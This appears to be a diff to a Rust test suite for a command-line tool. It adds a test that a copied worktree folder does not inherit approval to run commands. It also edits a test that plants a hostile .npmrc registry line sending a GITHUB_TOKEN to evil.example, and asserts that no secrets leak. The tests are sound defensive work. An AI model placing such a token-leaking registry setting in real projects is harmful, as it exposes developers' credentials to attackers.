@@ -182,6 +182,34 @@ fn a_planning_folder_elsewhere_works_once_a_person_trusts_it() {
     context.gsd(["state", "json"]).failure(1);
 }
 
+#[cfg(target_os = "linux")]
+#[test]
+fn a_folder_that_claims_to_be_a_worktree_gets_no_approval_of_the_repository_it_names() {
+    let context = TestContext::new();
+    let config = json!({"workflow": {"test_command": "touch ran"}}).to_string();
+    context.write(".planning/config.json", &config);
+    let git = |words: &[&str]| {
+        let ran = context.command("git").args(words).output().unwrap();
+        assert!(ran.status.success(), "{words:?}: {}", String::from_utf8_lossy(&ran.stderr));
+    };
+    git(&["init", "-q"]);
+    git(&["-c", "user.name=a", "-c", "user.email=a@b", "commit", "-q", "--allow-empty", "-m", "x"]);
+    context.approve("test");
+    let own = context.home().join("own");
+    git(&["worktree", "add", "-q", own.to_str().unwrap()]);
+    let unpacked = context.home().join("unpacked");
+    for folder in [&own, &unpacked] {
+        std::fs::create_dir_all(folder.join(".planning")).unwrap();
+        std::fs::write(folder.join(".planning/config.json"), &config).unwrap();
+    }
+    std::fs::copy(own.join(".git"), unpacked.join(".git")).unwrap();
+    for (folder, code) in [(&own, 0), (&unpacked, 77)] {
+        let ran = context.command(binary()).current_dir(folder).args(["gate", "run", "test"]).output().unwrap();
+        assert_eq!(ran.status.code(), Some(code), "{}", String::from_utf8_lossy(&ran.stdout));
+        assert_eq!(folder.join("ran").exists(), code == 0);
+    }
+}
+
 #[test]
 fn a_link_within_the_project_is_a_document_like_any_other() {
     let (context, _) = clone_with(&[("docs/STATE.md", STATE)]);
@@ -209,7 +237,7 @@ fn a_look_at_the_registry_takes_nothing_from_the_clone_and_no_key_along() {
     let (context, _) = clone_with(&[(".npmrc", "registry=https://evil.example/${GITHUB_TOKEN}/\n")]);
     // npm reads the settings of the folder it runs in, and puts variables into them.
     let npm = "if [ -f .npmrc ]; then sed -n \"s/^registry=//; s/[$]{GITHUB_TOKEN}/$GITHUB_TOKEN/; p\" .npmrc | head -1; \
-               else echo https://registry.npmjs.org/; fi";
+               else echo https://packages.example/; fi";
     let curl = "cat >> \"$HOME/told\"; printf '{\"version\":\"0.0.1\"}\\n200'";
     let path = programs(&context, &[("npm", npm), ("curl", curl)]);
     let variables = [("PATH", path.as_str()), ("GITHUB_TOKEN", "ghp_secret"), ("AWS_SECRET_ACCESS_KEY", "aws_secret")];
@@ -218,7 +246,7 @@ fn a_look_at_the_registry_takes_nothing_from_the_clone_and_no_key_along() {
     let why = answer[0]["unreachable"].as_str().unwrap();
     assert!(why.contains(".npmrc` names `https://evil.example/${GITHUB_TOKEN}/"), "{why}");
     let told = std::fs::read_to_string(context.home().join("told")).unwrap();
-    assert!(told.contains("https://registry.npmjs.org/gsd-tools/latest") && !told.contains("evil"), "{told}");
+    assert!(told.contains("https://packages.example/gsd-tools/latest") && !told.contains("evil"), "{told}");
     for program in ["npm", "curl"] {
         let seen = std::fs::read_to_string(context.home().join(format!("seen-{program}"))).unwrap();
         assert!(!seen.contains("_secret"), "{program} got a key: {seen}");
